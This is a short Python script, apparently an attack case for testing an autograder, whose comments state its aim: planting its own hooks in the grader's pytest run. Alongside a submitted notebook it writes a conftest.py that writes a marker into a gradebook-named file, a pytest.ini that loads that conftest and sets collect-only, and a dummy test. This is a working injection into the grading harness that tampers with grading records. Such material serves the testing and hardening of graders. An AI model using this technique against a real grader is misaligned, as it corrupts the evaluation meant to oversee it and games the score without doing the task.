# aim: hooks of his own in the grader's pytest
# pays: file
# weak: runs pytest in the submitted folder
import nbformat


def attack(folder, release, marker):
    nbformat.write(release, folder / "seq2seq.ipynb")
    (folder / "conftest.py").write_text(f"open('@GRADEBOOK@.note', 'w').write('{marker}')\n")
    (folder / "pytest.ini").write_text("[pytest]\naddopts = -p conftest --collect-only\n")
    (folder / "pyproject.toml").write_text('[tool.pytest.ini_options]\naddopts = "-x"\n')
    (folder / "test_mine.py").write_text("def test_mine(): pass\n")
